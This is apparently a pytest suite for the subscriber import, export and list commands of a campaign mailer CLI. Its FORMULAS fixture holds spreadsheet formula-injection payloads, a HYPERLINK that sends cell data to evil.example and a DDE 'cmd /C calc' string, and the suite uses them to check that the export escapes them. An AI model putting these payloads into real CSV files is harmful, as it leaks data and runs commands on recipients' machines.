"""`campaignbot subscribers ...`, `db upgrade` and `plan`'s audience sizes, end to end."""

from __future__ import annotations

import asyncio
import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

import campaignbot.cli  # noqa: F401  (registers every command)
from campaignbot.cli.common import cli
from campaignbot.storage.database import open_database
from campaignbot.subscribers.model import Subscriber, SubscriberStatus
from campaignbot.subscribers.store import SubscriberStore

REPO = Path(__file__).resolve().parent.parent
SHIPPED = REPO / "config" / "campaign.toml"
HEADER = "email,name,locale,timezone,countries,topics"


@pytest.fixture
def env(monkeypatch: pytest.MonkeyPatch, database_url: str) -> str:
    """The shipped campaign (default locale en, zone Europe/Helsinki) on a test database."""
    monkeypatch.setenv("CAMPAIGNBOT_CONFIG", str(SHIPPED))
    monkeypatch.setenv("CAMPAIGNBOT_DATABASE_URL", database_url)
    return database_url


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


def stored(url: str) -> list[Subscriber]:
    async def fetch() -> list[Subscriber]:
        db = open_database(url)
        try:
            return await SubscriberStore(db).list_subscribers()
        finally:
            await db.dispose()

    return asyncio.run(fetch())


def set_status(url: str, email: str, status: SubscriberStatus) -> None:
    async def change() -> None:
        db = open_database(url)
        try:
            store = SubscriberStore(db)
            found = await store.get_by_email(email)
            assert found is not None
            await store.set_status(found.id, status, now=datetime.now(UTC))
        finally:
            await db.dispose()

    asyncio.run(change())


def write(name: str, *lines: str) -> Path:
    path = Path(name)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


GOOD = (
    HEADER,
    "jan@example.pl,Jan Kowalski,pl,Europe/Warsaw,PL,mine-ban-treaty",
    'anna@example.fi,"Virtanen, Anna",fi,,FI;EE,',
    "all@example.org,,,,,",
)


def test_add_stores_an_active_subscriber_with_campaign_defaults(env: str) -> None:
    result = run("subscribers", "add", "Jan@Example.PL", "--country", "pl", "--topic", "elections")
    assert result.exit_code == 0, result.output
    assert "added Jan@example.pl" in result.output
    [jan] = stored(env)
    assert (jan.locale, jan.timezone, jan.status) == ("en", "Europe/Helsinki", "active")
    assert (jan.countries, jan.topics, jan.follows_all) == ({"PL"}, {"elections"}, False)
    assert jan.consent_source == "cli"


def test_add_with_a_bad_email_is_one_line_and_exit_2(env: str) -> None:
    result = run("subscribers", "add", "jan@@example.pl")
    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [
        (
            "error: invalid email 'jan@@example.pl' "
            "(the part after the @-sign contains invalid characters: '@')"
        )
    ]
    assert stored(env) == []


def test_adding_a_known_address_is_exit_2(env: str) -> None:
    assert run("subscribers", "add", "jan@example.pl").exit_code == 0
    result = run("subscribers", "add", "JAN@example.pl")
    assert result.exit_code == 2
    assert "JAN@example.pl: already a subscriber (status active" in result.output
    assert "Traceback" not in result.output


def test_import_adds_then_reimport_changes_nothing(env: str) -> None:
    path = write("people.csv", *GOOD)
    result = run("subscribers", "import", str(path))
    assert result.exit_code == 0, result.output
    assert "3 added, 0 updated, 0 unchanged, 0 skipped" in result.output
    first = stored(env)
    anna = next(s for s in first if s.email == "anna@example.fi")
    assert (anna.name, anna.locale, anna.timezone) == ("Virtanen, Anna", "fi", "Europe/Helsinki")
    assert {s.consent_source for s in first} == {"import:people.csv"}
    assert all(s.status == "active" and s.consent_at for s in first)

    again = run("subscribers", "import", str(path))
    assert again.exit_code == 0, again.output
    assert "0 added, 0 updated, 3 unchanged, 0 skipped" in again.output
    assert stored(env) == first  # updated_at included


def test_bad_rows_are_listed_by_row_number_and_nothing_is_imported(env: str) -> None:
    path = write(
        "people.csv",
        HEADER,
        "ok@example.org,,,,,",
        "jan@@example.pl,,,,,",
        "x@example.org,,xx,,,",
        "y@example.org,,,Europe/Helsenki,,",
        "z@example.org,,,,FIN,",
        "OK@example.org,,,,,",
    )
    result = run("subscribers", "import", str(path))
    assert result.exit_code == 2
    lines = result.output.splitlines()
    assert lines[:5] == [
        (
            "people.csv: row 3: invalid email 'jan@@example.pl' "
            "(the part after the @-sign contains invalid characters: '@')"
        ),
        "people.csv: row 4: unknown locale 'xx'",
        (
            "people.csv: row 5: unknown time zone 'Europe/Helsenki' "
            "(use an IANA name like 'Europe/Helsinki')"
        ),
        "people.csv: row 6: country must be a two-letter ISO code like 'FI', got 'FIN'",
        "people.csv: row 7: duplicate of row 2 (OK@example.org)",
    ]
    assert "nothing imported" in result.output
    assert stored(env) == []


def test_skip_invalid_imports_the_valid_rows_and_lists_the_others(env: str) -> None:
    path = write("people.csv", *GOOD, "bad,,,,,", "jan@example.pl,,,,,")
    result = run("subscribers", "import", "--skip-invalid", str(path))
    assert result.exit_code == 0, result.output
    assert "people.csv: row 5: invalid email 'bad'" in result.output
    assert "people.csv: row 6: duplicate of row 2 (jan@example.pl)" in result.output
    assert "3 added, 0 updated, 0 unchanged, 2 skipped" in result.output
    assert len(stored(env)) == 3


def test_import_never_reactivates_an_unsubscribed_address(env: str) -> None:
    path = write("people.csv", *GOOD)
    assert run("subscribers", "import", str(path)).exit_code == 0
    set_status(env, "jan@example.pl", SubscriberStatus.UNSUBSCRIBED)
    set_status(env, "anna@example.fi", SubscriberStatus.BOUNCED)
    before = stored(env)
    changed = write("people.csv", HEADER, "jan@example.pl,Jan,en,,FI,", "anna@example.fi,,,,,")
    result = run("subscribers", "import", str(changed))
    assert result.exit_code == 0, result.output
    assert "0 added, 0 updated, 2 unchanged" in result.output
    assert stored(env) == before


def test_export_round_trips_through_import(env: str) -> None:
    assert run("subscribers", "import", str(write("people.csv", *GOOD))).exit_code == 0
    exported = run("subscribers", "export")
    assert exported.exit_code == 0, exported.output
    assert exported.output.splitlines()[0] == HEADER
    assert 'anna@example.fi,"Virtanen, Anna",fi,Europe/Helsinki,EE;FI,' in exported.output
    for line in exported.output.splitlines()[1:]:
        assert run("subscribers", "remove", line.split(",")[0]).exit_code == 0
    assert stored(env) == []
    path = Path("exported.csv")
    path.write_text(exported.output, encoding="utf-8")
    result = run("subscribers", "import", str(path))
    assert "3 added" in result.output
    assert run("subscribers", "export").output == exported.output
    assert "3 unchanged" in run("subscribers", "import", str(path)).output


FORMULAS = (
    HEADER,
    '=2+5@example.com,"=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")",en,,,',
    "+cmd@example.com,@SUM(1+1)*cmd|' /C calc'!A0,en,,,",
    "-1@example.com,-2+3,en,,,",
    "plain@example.com,O'Brien,en,,,",
)


def test_export_is_spreadsheet_safe_unless_raw(env: str) -> None:
    result = run("subscribers", "import", str(write("formulas.csv", *FORMULAS)))
    assert result.exit_code == 0, result.output
    safe = run("subscribers", "export").output.splitlines()[1:]
    cells = [line.split(",", 1) for line in sorted(safe)]
    assert [email for email, _ in cells] == [
        "'+cmd@example.com",
        "'-1@example.com",
        "'=2+5@example.com",
        "plain@example.com",
    ]
    for line in safe:  # no cell a spreadsheet would evaluate
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "-", "@")), line
    assert "O'Brien" in "\n".join(safe)  # other cells as they are
    raw = run("subscribers", "export", "--raw").output
    assert "\n=2+5@example.com," in raw
    assert "@SUM(1+1)" in raw
    # the guarded file imports back to the same values
    for email in ("=2+5@example.com", "+cmd@example.com", "-1@example.com", "plain@example.com"):
        assert run("subscribers", "remove", "--", email).exit_code == 0
    path = write("safe.csv", HEADER, *safe)
    assert "4 added" in run("subscribers", "import", str(path)).output
    assert run("subscribers", "export", "--raw").output == raw


def test_export_leaves_out_people_who_left_unless_asked(env: str) -> None:
    assert run("subscribers", "import", str(write("people.csv", *GOOD))).exit_code == 0
    set_status(env, "jan@example.pl", SubscriberStatus.UNSUBSCRIBED)
    assert "jan@example.pl" not in run("subscribers", "export").output
    assert "jan@example.pl" in run("subscribers", "export", "--status", "all").output


def test_list_shows_a_table_and_json_with_filters(env: str) -> None:
    assert run("subscribers", "import", str(write("people.csv", *GOOD))).exit_code == 0
    table = run("subscribers", "list")
    assert table.exit_code == 0, table.output
    assert "3 subscribers" in table.output
    assert "jan@example.pl" in table.output
    assert "everything" in table.output
    result = run("subscribers", "list", "--country", "fi", "--json")
    assert result.exit_code == 0, result.output
    [anna] = json.loads(result.output)
    assert anna["email"] == "anna@example.fi"
    assert anna["countries"] == ["EE", "FI"]
    assert (anna["status"], anna["follows_all"]) == ("active", False)
    assert json.loads(run("subscribers", "list", "--status", "bounced", "--json").output) == []
    topic = json.loads(run("subscribers", "list", "--topic", "mine-ban-treaty", "--json").output)
    assert [s["email"] for s in topic] == ["jan@example.pl"]


def test_remove_an_unknown_address_is_exit_2(env: str) -> None:
    result = run("subscribers", "remove", "nobody@example.org")
    assert result.exit_code == 2
    assert "nobody@example.org: no such subscriber" in result.output


def test_import_help_explains_row_numbers(env: str) -> None:
    result = run("subscribers", "import", "--help")
    assert "header as row 1" in result.output
    assert "--skip-invalid" in result.output


def test_unreadable_csv_is_a_problem_not_a_traceback(env: str) -> None:
    path = Path("latin1.csv")
    path.write_bytes(HEADER.encode() + b"\nj\xe4n@example.org,,,,,\n")
    result = run("subscribers", "import", str(path))
    assert result.exit_code == 2
    assert "latin1.csv: line" in result.output
    assert "cannot read as CSV" in result.output
    assert stored(env) == []


def test_db_upgrade(env: str) -> None:
    result = run("db", "upgrade")
    assert result.exit_code == 0, result.output
    assert "schema is at the newest revision" in result.output


def test_plan_counts_matching_active_subscribers(env: str) -> None:
    path = write(
        "people.csv",
        HEADER,
        "fi@example.org,,,,FI,",
        "pl@example.org,,,,PL,",
        "treaty@example.org,,,,,mine-ban-treaty",
        "all@example.org,,,,,",
        "gone@example.org,,,,FI,",
    )
    assert run("subscribers", "import", str(path)).exit_code == 0
    set_status(env, "gone@example.org", SubscriberStatus.UNSUBSCRIBED)
    result = run("plan", "--from", "2025-06-14T00:00Z", "--until", "2025-06-21", "--json")
    assert result.exit_code == 0, result.output
    sizes = {row["event"]: row["audience"] for row in json.loads(result.output)}
    # FI, PL or EE/LV/LT, or mine-ban-treaty, or everything; never the unsubscribed one
    assert sizes == {"fi-final-vote": 3, "pl-sejm-vote": 3, "baltic-deposit": 2}
